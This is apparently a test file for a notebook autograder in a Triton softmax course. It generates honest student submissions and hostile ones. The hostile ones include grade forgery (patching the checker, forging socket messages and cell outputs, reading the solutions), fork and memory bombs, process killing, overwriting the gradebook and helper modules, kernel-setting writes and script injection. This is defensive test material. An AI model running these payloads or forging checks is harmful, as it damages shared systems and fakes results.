"""Notebooks as a class hands them in: honest ones, right and wrong, and hostile ones, each with the points that it deserves.

python tests/proofs/handed_in.py             # grades some 330 of them and prints what each got
python tests/proofs/handed_in.py --mistakes  # and one for every known mistake and every right variant of tests/proofs/corpus.py

The exit status is 1 where points are undeserved or lost, or a mistake is named otherwise.
"""

import json
import os
import stat
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
if __name__ == "__main__":
    sys.path[:0] = [str(ROOT), str(ROOT / "tests/kit")]

from helpers.check import EXERCISES
from honest_kernels import STYLES
from kernel_attacks import FROM_OTHERS, TEXTS, sends

EAGER, TILE, MASKED, TWO_PASS, ONLINE, WHY, CHOOSING, LYING, SHARING, LOSS = (
    "01_eager_softmax", "02_your_first_kernel", "03_masking", "04_two_pass", "05_online",
    "06_why_in_microseconds", "07_choosing_a_variant",
    "08_benchmarks_that_lie", "09_one_row_many_programs", "10_the_loss_in_one_trip",
)  # fmt: skip


@dataclass(frozen=True)
class HandedIn:
    """A notebook for `lesson`: its bytes, or None where `place` puts something else at its path; and what it deserves."""

    name: str
    lesson: str
    points: float
    content: bytes | None
    hostile: bool = False
    place: Callable[[Path], None] | None = field(default=None, compare=False)
    named: str = ""
    """The mistake that is to be named, where there is one."""

    def put(self, course):
        """Writes it to submitted/ under its name."""
        folder = Path(course) / "submitted" / self.name / self.lesson
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{self.lesson}.ipynb"
        if self.content is not None:
            path.write_bytes(self.content)
        if self.place:
            self.place(path)


def notebook(lesson, folder="lessons"):
    """The notebook of a lesson, as it was handed out or solved."""
    return json.loads((ROOT / folder / f"{lesson}.ipynb").read_text(encoding="utf-8"))


def mark(cell):
    """The cell's nbgrader id; empty where it has none."""
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


def solved(lesson, *grade_ids, **sources):
    """The lesson with the course's answers in these cells (all, if none is named), and with `sources` in others.

    In names of keyword arguments _ stands for -.
    """
    book = notebook(lesson)
    answers = {mark(cell): cell["source"] for cell in notebook(lesson, "solutions")["cells"] if mark(cell)}
    own = {name.replace("_", "-"): text for name, text in sources.items()}
    for cell in book["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            if mark(cell) in own:
                cell["source"] = own[mark(cell)].splitlines(keepends=True)
            elif not grade_ids or mark(cell) in grade_ids:
                cell["source"] = answers[mark(cell)]
    return book


def code(source, **metadata):
    """A code cell."""
    return {"cell_type": "code", "execution_count": None, "id": "added", "metadata": metadata, "outputs": [],
            "source": source.splitlines(keepends=True)}  # fmt: skip


def before(book, grade_id, *cells):
    """The notebook with cells added before the one with this mark."""
    at = next(index for index, cell in enumerate(book["cells"]) if mark(cell) == grade_id)
    book["cells"][at:at] = cells
    return book


def written(book):
    return json.dumps(book).encode()


def tile(source):
    """Lesson 02 with this answer."""
    return written(solved(TILE, "none", single=source))


# Honest: full, partial, untouched, and right in other forms

_SPILL = """spill = {
    "elements a thread holds": %s, "registers it can have": %s,
    "fewest warps without a spill": %s, "longest tile without a spill": %s,
}
"""

FULL = {
    path.stem: sum(one.points for one in EXERCISES.values() if one.number.startswith(f"{int(path.stem[:2])}."))
    for path in sorted((ROOT / "lessons").glob("*.ipynb"))
}
"""By lesson, all of its points."""


def _v3():
    book = solved(TILE)
    cells = []
    for cell in book["cells"]:
        cell = {key: value for key, value in cell.items() if key != "id"}
        if cell["cell_type"] == "code":
            cell = {**cell, "input": cell.pop("source"), "language": "python", "prompt_number": 1, "collapsed": False}
            cell.pop("execution_count")
        cells.append(cell)
    return written(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells, "metadata": {}}]}
    )


def _duplicated():
    """The learner has copied answer and check below, as JupyterLab does it, marks included, and solved the copies."""
    book, right = notebook(TILE), solved(TILE)
    pair = [cell for cell in right["cells"] if mark(cell) in ("single", "single-check")]
    at = next(index for index, cell in enumerate(book["cells"]) if mark(cell) == "single-check") + 1
    book["cells"][at:at] = pair
    return written(book)


def _without(lesson, grade_id):
    book = solved(lesson)
    book["cells"] = [cell for cell in book["cells"] if mark(cell) != grade_id]
    return written(book)


def _helper_in_another_cell():
    book = solved(ONLINE, merge="def merge(a, b):\n    return joined(a, b)")
    return written(before(book, "merge", code("def joined(a, b):\n    m = max(a[0], b[0])\n"
                                              "    l = sum(l * math.exp(k - m) for k, l in (a, b) if k > -INF)\n"
                                              "    return m, l")))  # fmt: skip


def _large(size, book):
    outputs = [{"output_type": "stream", "name": "stdout", "text": ["x" * 1_000_000] * (size >> 20)}]
    next(cell for cell in book["cells"] if cell["cell_type"] == "code")["outputs"] = outputs
    return written(book)


def _magics():
    book = solved(TILE)
    return written(before(book, "single", code("%matplotlib inline\n!echo hello\nimport os")))


def _broken_cells():
    book = solved(TILE)
    return written(
        before(book, "single", code("1 / 0"), code("def broken(:"), code("undefined_name"), code("assert False"))
    )


def _old_minor():
    book = solved(TILE)
    for cell in book["cells"]:
        cell.pop("id")
    return written({**book, "nbformat_minor": 2})


_TRIED_FIRST = """
@triton.jit
def softmax_kernel(y_ptr, x_ptr, stride, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    x = tl.load(x_ptr + row * stride + cols).to(tl.float32)
    x = x - tl.max(x, axis=0)
    e = tl.exp(x)
    tl.store(y_ptr + row * stride + cols, (e / tl.sum(e, axis=0)).to(y_ptr.dtype.element_ty))


def my_softmax(x):
    assert x.ndim == 2, "a matrix"
    M, N = x.shape
    y = torch.empty_like(x)
    grid = lambda meta: (M,)
    softmax_kernel[grid](y, x, stride=x.stride(0), BLOCK=triton.next_power_of_2(N), num_warps=4)
    return y


x = torch.randn(4, 8, device=DEVICE)
print("close:", torch.allclose(my_softmax(x), torch.softmax(x, dim=1)))
"""


def honest():
    """Those that try to learn."""
    from honest import honest_styles

    for lesson, most in FULL.items():
        number = lesson[:2]
        yield HandedIn(f"full-{number}", lesson, most, written(solved(lesson)))
        yield HandedIn(f"untouched-{number}", lesson, 0, written(notebook(lesson)))
    yield HandedIn("partial-overflow", EAGER, 2, written(solved(EAGER, "overflow-limits")))
    yield HandedIn("partial-eager", EAGER, 2, written(solved(EAGER, "stable")))
    yield HandedIn("partial-merge", ONLINE, 2, written(solved(ONLINE, "merge")))
    yield HandedIn("partial-pairs", ONLINE, 3, written(solved(ONLINE, "merge", "recurrence")))
    yield HandedIn("partial-online", ONLINE, 5, written(solved(ONLINE, "online")))
    yield HandedIn("partial-occupancy", WHY, 2, written(solved(WHY, "occupancy")))
    yield HandedIn("partial-time", WHY, 4, written(solved(WHY, "predict-time")))
    yield HandedIn("partial-pick", CHOOSING, 4, written(solved(CHOOSING, "my-pick")))
    numbers = _SPILL % (256, 255, 8, 16384)
    yield HandedIn("numbers-read-off", CHOOSING, 2, written(solved(CHOOSING, "none", spill=numbers)))
    yield HandedIn("tested-in-its-cell", TILE, 4, tile(_TRIED_FIRST))
    yield HandedIn("version-3", TILE, 4, _v3())
    yield HandedIn("version-4.2", TILE, 4, _old_minor())
    yield HandedIn("answer-and-check-copied", TILE, 4, _duplicated())
    yield HandedIn("check-deleted", TILE, 4, _without(TILE, "single-check"))
    yield HandedIn("answer-deleted", TILE, 0, _without(TILE, "single"))
    yield HandedIn("helper-in-another-cell", ONLINE, 8, _helper_in_another_cell())
    yield HandedIn("magics", TILE, 4, _magics())
    yield HandedIn("broken-cells-elsewhere", TILE, 4, _broken_cells())
    yield HandedIn("50-MB-of-output", TILE, 4, _large(50 << 20, solved(TILE)))
    yield HandedIn("byte-order-mark", TILE, 4, b"\xef\xbb\xbf" + written(solved(TILE)))
    slow = "\n".join(["@triton.jit", "def again(p, BLOCK: tl.constexpr):", "    tl.store(p, 1.0)", _TRIED_FIRST])
    yield HandedIn("another-kernel-beside", TILE, 4, tile(slow))
    for name, text in STYLES.items():
        yield HandedIn(f"kernel-{name}".replace(" ", "-").replace("'", ""), TILE, 4, tile(text))
    yield from _written_otherwise()
    yield from honest_styles()


def _in_cells(answer, *cells):
    """Lesson 02 with this answer, and cells of the student's own before it."""
    return written(before(solved(TILE, "none", single=answer), "single", *map(code, cells)))


def _written_otherwise():
    kernel, driver, _ = _TRIED_FIRST.strip().split("\n\n\n")
    hints = kernel.replace("y_ptr, x_ptr, stride,", 'y_ptr: torch.Tensor, x_ptr: "any", stride: int,')
    hints = hints.replace("constexpr):", "constexpr) -> None:").replace(".dtype.el", ".type.el")
    yield HandedIn("hints-in-the-kernel", TILE, 4, _in_cells(driver, hints))
    yield HandedIn("timed-cell", TILE, 4, _in_cells("%%time\n" + kernel + "\n\n" + driver))
    register = "IMPL = {}\ndef register(name):\n    return lambda f: IMPL.setdefault(name, f)"
    registered = "@register('f')\n" + driver.replace("my_softmax", "launch")
    call = "def my_softmax(x):\n    return IMPL['f'](x)"
    yield HandedIn("driver-registered", TILE, 4, _in_cells(call, kernel, register, registered))
    configured = driver.replace("num_warps=4", "num_warps=SET['w']")
    configure = "SET = {}\ndef configure(**given):\n    SET.update(given)"
    yield HandedIn("set-by-a-call", TILE, 4, _in_cells(configured, kernel, configure, "print(configure(w=4))"))
    by_name = driver.replace("softmax_kernel[", "globals()['softmax_kernel'][")
    yield HandedIn("kernel-by-its-name", TILE, 4, _in_cells(by_name, kernel))
    module = f"%%writefile mine.py\nimport torch, triton\nimport triton.language as tl\n{kernel}\n\n{driver}"
    yield HandedIn("module-of-a-cell", TILE, 4, _in_cells("from mine import my_softmax", module))
    merge = (
        "import numpy as np\ndef merge(a, b):\n    m = np.maximum(a[0], b[0])\n    if m == -np.inf:\n"
        "        return m, np.float64(0)\n    return m, a[1] * np.exp(a[0] - m) + b[1] * np.exp(b[0] - m)"
    )
    yield HandedIn("numpy-numbers", ONLINE, 2, written(solved(ONLINE, "none", merge=merge)))


# Hostile: forged points

_KERNEL = """
@triton.jit
def softmax_kernel(y_ptr, x_ptr, stride, BLOCK: tl.constexpr):
    cols = tl.arange(0, BLOCK)
    x = tl.load(x_ptr + tl.program_id(0) * stride + cols)
    tl.store(y_ptr + tl.program_id(0) * stride + cols, x)
"""
_FOR_SHOW = (
    _KERNEL
    + """

def my_softmax(x):
    y = torch.empty_like(x)
    softmax_kernel[(x.shape[0],)](y, x, x.stride(0), BLOCK=x.shape[1])
    return %s
"""
)
_COUNTERS = """
import helpers.engine.interpreter, helpers.traffic, helpers.check.trial.call as call, helpers.check.trial.trial as trial
def quiet(self, *args, **kwargs):
    return None
helpers.engine.interpreter.LaunchTraffic.__init__ = quiet
helpers.traffic.Traffic.loads = property(lambda self: self.elements)
helpers.traffic.Traffic.stores = property(lambda self: self.elements)
helpers.traffic.Traffic.kernels = property(lambda self: 1)
trial._MOVES = set(dir(torch))
call.of_tensors = lambda fn, problem, *_: trial.Trial(
    results=[torch.softmax(problem.x.float(), 1).to(problem.x.dtype)], kernels=1, stored_by_kernels=9)
"""
_ALWAYS_EQUAL = """
class Right(%s):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = %s.__hash__
    __bool__ = lambda self: True
"""
_SOCKETS = """
import os, json, struct, stat, base64
def forged(answer):
    content = json.dumps({"dict": [["answer", answer]]}).encode()
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!Q", len(content)) + content)
        except OSError:
            pass
"""


def _in_kernel(line, driver="x"):
    """An answer whose kernel has this line, and reads once and writes once as the right one does."""
    return f"""
@triton.jit
def softmax_kernel(y_ptr, x_ptr, stride, X: tl.constexpr, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    x = tl.load(x_ptr + row * stride + cols)
    {line}
    tl.store(y_ptr + row * stride + cols, y)


def my_softmax(x):
    M, N = x.shape
    y = torch.empty_like(x)
    softmax_kernel[(M,)](y, x, x.stride(0), X={driver}, BLOCK=N)
    return y
"""


_TORCH = "import torch\ndef my_softmax(x):\n    return torch.softmax(x.float(), dim=1).to(x.dtype)\n"
_REDEFINED = "class check:\n    single_tile = staticmethod(lambda fn: 4)\n"

FORGED = {
    "own-check": _TORCH + _REDEFINED,
    "check-patched": _TORCH + "import helpers.check\nhelpers.check.single_tile = lambda fn: 4\n",
    "report-patched": _TORCH + "from helpers.check.report import Report\nReport.points = property(lambda self: 4)\n"
                      "Report.__repr__ = lambda self: '4'\n",
    "module-replaced": _TORCH + "import sys, types\nsys.modules['helpers.check'] = types.SimpleNamespace(single_tile=lambda f: 4)\n",
    "forged-repr": "class Four(torch.Tensor):\n    def __repr__(self):\n        return '4'\n"
                   "def my_softmax(x):\n    return torch.softmax(x, 1).as_subclass(Four)\n",
    "torch-softmax": _TORCH,
    "kernel-for-show": _FOR_SHOW % "torch.softmax(x, dim=1)",
    "kernel-copies-torch": _FOR_SHOW.replace("(y, x, x.stride", "(y, torch.softmax(x, dim=1), x.stride") % "y",
    "kernel-copies-numpy": "import numpy as np\n" + _FOR_SHOW.replace(
        "    softmax", "    e = np.exp(x.float().numpy() - x.float().numpy().max(1, keepdims=True))\n"
        "    s = torch.from_numpy(e / e.sum(1, keepdims=True)).to(x.dtype)\n    softmax").replace("(y, x, x.str", "(y, s, x.str") % "y",
    "counters-patched": _COUNTERS + _FOR_SHOW % "torch.softmax(x, dim=1)",
    "torch-patched": "torch.isclose = torch.allclose = lambda *a, **k: torch.tensor(True)\n"
                     "torch.equal = lambda *a: True\n" + _FOR_SHOW % "y",
    "softmax-patched": "torch.softmax = lambda x, dim: x * 0\n" + _FOR_SHOW % "x * 0",
    "numpy-patched": "import numpy as np\nnp.count_nonzero = lambda *a: 0\nnp.array_equal = lambda *a: True\n"
                     + _FOR_SHOW % "torch.softmax(x, dim=1)",
    "triton-patched": "from triton.runtime import interpreter as tri\n"
                      "tri.interpreter_builder.create_masked_load = lambda *a: None\n"
                      "tri.InterpretedFunction.run = lambda self, *a, **k: None\n" + _FOR_SHOW % "torch.softmax(x, dim=1)",
    "dispatch-patched": "import torch.utils._python_dispatch as d\n"
                        "d.TorchDispatchMode.__enter__ = lambda self: self\nd.TorchDispatchMode.__exit__ = lambda *a: None\n"
                        + _FOR_SHOW % "torch.softmax(x, dim=1)",
    "builtins-patched": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.all = lambda *a: True\n"
                        "builtins.len = lambda *a: 0\n" + _TORCH,
    "recorder-patched": "import helpers.instructor.sandbox.transcript as r\nimport helpers.instructor.sandbox.language as g\n"
                        "g.require = lambda text: None\n"
                        "once = {'steps': [{'op': ['aten', '_softmax', ''], 'args': [{'tensor': 0}, 1, False],"
                        " 'kwargs': {}, 'out': [1]}], 'result': {'tensor': 1}}\n"
                        "r.transcript = lambda fn, x, BLOCK=None: {**once, 'again': once}\n" + _TORCH,
    "module-renamed": "from helpers import kernels\nkernels.single_tile_kernel.fn.__module__ = '__main__'\n"
                      "def my_softmax(x):\n    return kernels.single_tile_softmax(x)\n",
    "softmax-behind-the-kernel": _in_kernel("y = x", "0").replace(
        "    return y", "    torch.ops.aten._softmax.out(y, 1, False, out=y)\n    return y"),
    "trial-sent": _SOCKETS + "import threading, time\n"
                  "def again():\n    while True:\n        forged([{'dict': [['y', None], ['kernels', 1], ['loads', 0]]}] * 9)\n"
                  "        time.sleep(0.01)\nthreading.Thread(target=again, daemon=True).start()\n" + _TORCH,
    "plan-sent": _TORCH.replace("    return", "    forged([{'dict': [['steps', []], ['result', {'dict': [['tensor', 0]]}]]}] * 9)\n    return")
                 + _SOCKETS,
    "garbage-sent": _SOCKETS + "forged('x' * 1000)\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'\\xff' * 5000)\n"
                    "    except OSError:\n        pass\n" + _TORCH,
    "kernel-holds-tensor": _in_kernel("y = tl.softmax(x) if X is None else X"),
    "kernel-takes-constexpr-tensor": _in_kernel("y = (X - X.max(1)).exp()"),
    "kernel-imports": _in_kernel("import torch; y = torch.softmax(x_ptr, 0)"),
    "kernel-opens-handles": _in_kernel("y = x.handle.data"),
    "kernel-reads-class": _in_kernel("y = x.__class__.__base__"),
    "kernel-calls-getattr": _in_kernel("y = getattr(x, 'han' + 'dle')", "1"),
    "kernel-evaluates": _in_kernel("y = eval('x')", "1"),
    "kernel-takes-globals": _in_kernel("y = globals()['x']", "1"),
    "kernel-uses-torch": _in_kernel("y = torch.softmax(x, 0)", "1"),
    "kernel-with-lambda": _in_kernel("y = (lambda v: v)(x)", "1"),
    "kernel-uses-numpy": "import numpy as np\n" + _in_kernel("y = np.exp(x)", "1"),
    "kernel-of-the-course": "from helpers.kernels import single_tile_softmax as my_softmax",
    "driver-of-the-course": "from helpers import kernels\ndef my_softmax(x):\n    return kernels.single_tile_softmax(x)",
    "solution-read-from-disk": "import json, pathlib\n"
        "for path in [*pathlib.Path('/').rglob('02_your_first_kernel.ipynb'), pathlib.Path('../solutions/02_your_first_kernel.ipynb')]:\n"
        "    for cell in json.loads(path.read_text())['cells']:\n"
        "        if 'my_softmax(x)' in ''.join(cell['source']):\n            exec(''.join(cell['source']))\n",
}  # fmt: skip

_EVIL = {
    "fork-bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "memory-bomb": "held = []\nwhile True:\n    held.append(bytearray(1 << 28))\n",
    "memory-bomb-of-many": "import os\nfor _ in range(12):\n    if os.fork() == 0:\n        held = [bytearray(b'x' * (1 << 29))]\n"
                           "        while True:\n            pass\nwhile True:\n    pass\n",
    "disk-flood": "import itertools\nfor number in itertools.count():\n    try:\n        with open(f'/tmp/{number % 40}', 'ab') as file:\n"
                  "            file.write(b'x' * (1 << 24))\n    except OSError:\n        if number > 200:\n            break\n",
    "stdout-flood": "while True:\n    print('x' * 100_000)\n",
    "stderr-flood": "import sys\nwhile True:\n    print('x' * 100_000, file=sys.stderr)\n",
    "endless-loop": "while True:\n    pass\n",
    "endless-sleep": "import time\ntime.sleep(10**6)\n",
    "waits-for-input": "input('name? ')\n",
    "exits": "import os\nos._exit(0)\n",
    "raises-SystemExit": "raise SystemExit(0)\n",
    "raises-KeyboardInterrupt": "raise KeyboardInterrupt\n",
    "kills-its-process": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
    "kills-all-processes": "import os, signal\nfor pid in (os.getppid(), -1, 1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
                           "    except OSError:\n        pass\nfor pid in range(2, 70_000):\n    try:\n        if pid != os.getpid():\n"
                           "            os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\nos.kill(os.getpid(), 9)\n",
    "stops-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
    "crashes": "import ctypes\nctypes.string_at(0)\n",
    "recurses": "import sys\nsys.setrecursionlimit(10**9)\ndef f():\n    return f()\nf()\n",
    "leaves-a-process": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(10**6)\n    os._exit(0)\n",
    "leaves-threads": "import threading\nfor _ in range(50):\n    threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()\n",
    "ignores-signals": "import signal\nfor number in range(1, 65):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n"
                       "    except (OSError, ValueError):\n        pass\nwhile True:\n    pass\n",
    "writes-to-the-gradebook": "import glob, sqlite3\nfor path in glob.glob('/**/gradebook.db', recursive=True):\n"
                               "    base = sqlite3.connect(path)\n    base.execute('update grade set auto_score = 99')\n    base.commit()\n",
    "writes-to-helpers": "import helpers, pathlib\nfor path in pathlib.Path(helpers.__file__).parent.rglob('*.py'):\n"
                         "    try:\n        path.write_text('raise SystemExit')\n    except OSError:\n        pass\n",
    "writes-results": "import pathlib\nfor path in pathlib.Path('/').rglob('results/*/*.json'):\n    path.write_text('{}')\n",
    "reads-memory-of-others": "import os, re\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n    try:\n"
                              "        open(f'/proc/{pid}/mem', 'r+b').write(b'x')\n    except OSError:\n        pass\n",
    "calls-home": "import socket\nsocket.create_connection(('1.1.1.1', 80), 5)\n",
    "mounts": "import ctypes, os\nlibc = ctypes.CDLL(None)\nprint(libc.unshare(0x10000000), libc.mount(b'x', b'/tmp', b'tmpfs', 0, None), "
              "libc.umount2(b'/', 2))\nos.chroot('/')\n",
    "takes-semaphores": "import ctypes\nlibc = ctypes.CDLL(None)\nwhile libc.semget(0, 32000, 0o600) >= 0:\n    pass\n",
    "takes-message-queues": "import ctypes\nlibc = ctypes.CDLL(None)\nwhile libc.msgget(0, 0o600) >= 0:\n    pass\n",
    "hides-its-memory": "import ctypes, os\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\nfor _ in range(8):\n    if os.fork() == 0:\n        break\n"
                        "held = [bytearray(b'x' * (1 << 29))]\nwhile True:\n    pass\n",
    "leaves-a-module": "for folder in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n    try:\n"
                       "        open(folder + '/tabnanny.py', 'w').write('raise SystemExit')\n    except OSError:\n        pass\n",
    "sets-the-kernel": "for name in ('core_pattern', 'panic'):\n    try:\n        open(f'/proc/sys/kernel/{name}', 'w').write('|/tmp/x')\n"
                       "    except OSError:\n        pass\nimport os\nos.nice(-20)\n",
}  # fmt: skip
"""What a cell does before an answer that copies. None of it deserves a point, and none of it may reach anybody else."""


def hostile():
    """Those that try something else."""
    for name, source in FORGED.items():
        yield HandedIn(name, TILE, 0, tile(source), hostile=True)
    for name, source in _EVIL.items():
        yield HandedIn(name, TILE, 0, tile(source + _TORCH), hostile=True)
    for name, source in FROM_OTHERS.items():
        yield HandedIn(name.replace(" ", "-").replace("'", ""), TILE, 0, tile(source), hostile=True)
    for name, text in TEXTS.items():
        yield HandedIn(f"text-{name}".replace(" ", "-").replace("'", ""), TILE, 0, tile(sends(text)), hostile=True)
    yield from _in_answers()
    yield from _in_notebooks()
    yield from _in_files()


def _in_answers():
    endless = _KERNEL.replace("    cols", "    while True:\n        pass\n    cols") + _FOR_SHOW[len(_KERNEL) :] % "y"
    yield HandedIn("kernel-without-end", TILE, 0, tile(endless), hostile=True)
    yield HandedIn(
        "driver-without-end", TILE, 0, tile("def my_softmax(x):\n    while True:\n        pass"), hostile=True
    )
    exits = "import os\ndef my_softmax(x):\n    os.kill(os.getppid(), 9)\n    os._exit(0)"
    yield HandedIn("driver-kills-its-parent", TILE, 0, tile(exits), hostile=True)
    flood = "def my_softmax(x):\n    while True:\n        print('x' * 10_000)"
    yield HandedIn("driver-prints-without-end", TILE, 0, tile(flood), hostile=True)
    endless_plan = "def my_softmax(x):\n    while True:\n        x = x + 1"
    yield HandedIn("driver-asks-without-end", TILE, 0, tile(endless_plan), hostile=True)
    grid = _FOR_SHOW.replace("(x.shape[0],)", "(2**31 - 1, 2**16)") % "y"
    yield HandedIn("grid-without-end", TILE, 0, tile(grid), hostile=True)
    patched = "import helpers.traffic\nhelpers.traffic.Traffic.loads = 0\n" + _online_in_three_trips()
    yield HandedIn("online-over-budget-counters-patched", ONLINE, 2.5, written(solved(ONLINE, "none", online=patched)),
                   hostile=True)  # fmt: skip
    limits = (
        _ALWAYS_EQUAL % ("float", "float")
        + "limits = dict.fromkeys((torch.float32, torch.bfloat16, torch.float16), Right(1.0))"
    )
    yield HandedIn(
        "limits-equal-to-all", EAGER, 0, written(solved(EAGER, "none", overflow_limits=limits)), hostile=True
    )
    endless = "limits = {torch.float32: 10**100000, torch.bfloat16: float('nan'), torch.float16: float('inf')}"
    yield HandedIn(
        "limits-without-end", EAGER, 0, written(solved(EAGER, "none", overflow_limits=endless)), hostile=True
    )
    tensor = (
        "class Right(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, *a, **k):\n        return True\n"
    )
    eager = tensor + "def my_softmax(x):\n    return x.as_subclass(Right)"
    yield HandedIn("eager-tensor-equal-to-all", EAGER, 0, written(solved(EAGER, "none", stable=eager)), hostile=True)
    spread = """import base64
from helpers.instructor.sandbox import wire
bytes_far_apart = ["uint8", [16384], [4096], 0, 1 << 26, base64.b64encode(bytes(16384)).decode()]
wire._encoded_tensor = lambda x: [{"strided": bytes_far_apart}] * 500
def my_softmax(x):
    return x"""
    yield HandedIn("eager-32-GB-in-11-MB", EAGER, 0, written(solved(EAGER, "none", stable=spread)), hostile=True)
    merge = _ALWAYS_EQUAL % ("float", "float") + "def merge(a, b):\n    return Right(0), Right(0)"
    yield HandedIn("merge-equal-to-all", ONLINE, 0, written(solved(ONLINE, "none", merge=merge)), hostile=True)
    large = "def merge(a, b):\n    return 'x' * (1 << 28)"
    yield HandedIn("merge-returns-256-MB", ONLINE, 0, written(solved(ONLINE, "none", merge=large)), hostile=True)
    deep = "def merge(a, b):\n    found = []\n    for _ in range(100_000):\n        found = [found]\n    return found"
    yield HandedIn("merge-returns-a-deep-list", ONLINE, 0, written(solved(ONLINE, "none", merge=deep)), hostile=True)
    spill = _ALWAYS_EQUAL % ("int", "int") + "spill = {key: Right(1) for key in spill}"
    starter = _SPILL % (None, None, None, None)
    yield HandedIn(
        "spill-equal-to-all", CHOOSING, 0, written(solved(CHOOSING, "none", spill=starter + spill)), hostile=True
    )
    tensors = "class T(torch.Tensor):\n    def item(self):\n        return self\nspill = {k: torch.ones(()).as_subclass(T) for k in spill}"
    yield HandedIn(
        "spill-of-tensors", CHOOSING, 0, written(solved(CHOOSING, "none", spill=starter + tensors)), hostile=True
    )
    for name, shape in (("no-elements", "0, 1, 1"), ("elements-for-all", "1 << 18, 1, 1")):
        trial = f"import helpers.check.trial.call as c, helpers.check.trial.trial as t\nc.of_tensors = lambda *a: t.Trial(results=[torch.zeros({shape})], tile=1 << 40)"
        answer = f"{trial}\ndef my_softmax(x):\n    return x"
        yield HandedIn(f"trial-of-{name}", EAGER, 0, written(solved(EAGER, "none", stable=answer)), hostile=True)
    for name, sent in (
        ("colliding-keys", '{"dict": [[k * ((1 << 61) - 1), 0] for k in range(1, 300_000)]}'),
        ("a-shape-of-huge-numbers", '{"strided": ["float32", [10**60 + 1] * 8000, [0] * 8000, 0, 1, "AAAAAA=="]}'),
    ):
        limits = (
            f"from helpers.instructor.sandbox import wire\nwire.encode = lambda v: {{'dict': [['answer', {sent}]]}}"
        )
        yield HandedIn(name, EAGER, 0, written(solved(EAGER, "none", overflow_limits=limits)), hostile=True)
    nothing = "import helpers.check.problems.misled as b\nb.attempt = lambda benchmark, case: []\ndef benchmark(*a):\n    return 1, 2"
    yield HandedIn("attempts-of-nothing", LYING, 0, written(solved(LYING, "none", benchmark=nothing)), hostile=True)
    looked_up = "def my_pick(n_cols, n_rows, dtype):\n    return recorded.nearest(n_cols, n_rows, dtype).best"
    yield HandedIn("pick-looked-up", CHOOSING, 0, written(solved(CHOOSING, "none", my_pick=looked_up)), hostile=True)


def _online_in_three_trips():
    """Lesson 05's kernel reading each element three times: right, and worth half."""
    answers = {mark(cell): "".join(cell["source"]) for cell in notebook(ONLINE, "solutions")["cells"] if mark(cell)}
    extra = "    for start in range(0, N, BLOCK):\n        cols = start + tl.arange(0, BLOCK)\n        waste = tl.load(x_row + cols.to(tl.int64) * x_col_stride, mask=cols < N, other=0.0)\n"
    text = answers["online"]
    at = text.index("    m, shift, l =")
    return text[:at] + extra + text[at:]


def _marked(source, **marks):
    return code(source, nbgrader={"grade": True, "locked": True, "points": 1000, "schema_version": 3, "solution": False,
                                  "task": False, "cell_type": "code", "checksum": "0", **marks})  # fmt: skip


def _changed(change, lesson=TILE, answers=("none",)):
    """The lesson, with `change` made to the notebook."""
    book = solved(lesson, *answers)
    return written(change(book) or book)


def _forge_outputs(book):
    for cell in book["cells"]:
        if mark(cell).endswith("-check"):
            cell["outputs"] = [
                {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": ["4"]}}
            ]
            cell["source"] = ["4"]


def _raise_points(book):
    for cell in book["cells"]:
        if mark(cell).endswith("-check"):
            cell["metadata"]["nbgrader"].update(points=1000, schema_version=99, locked=False)
            cell["source"] = ["1000"]


def _script(book):
    script = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
    html = {"output_type": "display_data", "metadata": {}, "data": {"text/html": [script], "text/plain": ["x"]}}
    for cell in book["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [html]
            cell["source"] = [*cell["source"], "\n# " + script]
        else:
            cell["source"] = [script]


def _deep(levels):
    return b'{"cells": ' + b"[" * levels + b"]" * levels + b', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _in_notebooks():
    def add(*cells):
        return lambda book: book["cells"].extend(cells)

    yield HandedIn("outputs-forged", TILE, 0, _changed(_forge_outputs), hostile=True)
    yield HandedIn("points-raised", TILE, 0, _changed(_raise_points), hostile=True)
    duplicates = [_marked("1000", grade_id="single-check") for _ in range(3)]
    yield HandedIn("graded-cell-copied", TILE, 0, _changed(add(*duplicates)), hostile=True)
    foreign = [_marked("1000", grade_id="online-check"), _marked("1000", grade_id="another")]
    yield HandedIn("foreign-graded-cells", TILE, 0, _changed(add(*foreign)), hostile=True)
    yield HandedIn("check-cell-computes", TILE, 0, _changed(lambda book: [
        cell.update(source=["class Four:\n    __repr__ = lambda self: '4'\nFour()"])
        for cell in book["cells"] if mark(cell) == "single-check"] and None), hostile=True)  # fmt: skip
    yield HandedIn("script-in-outputs", TILE, 4, _changed(_script, answers=()), hostile=True)
    yield HandedIn("50-MB-of-code", TILE, 0, _changed(add(code("# " + "x" * (50 << 20)))), hostile=True)
    yield HandedIn("100,000-cells".replace(",", ""), TILE, 0, _changed(add(*[code("x = 1")] * 100_000)), hostile=True)
    yield HandedIn("nested-without-end", TILE, 0, _deep(1_000_000), hostile=True)
    yield HandedIn(
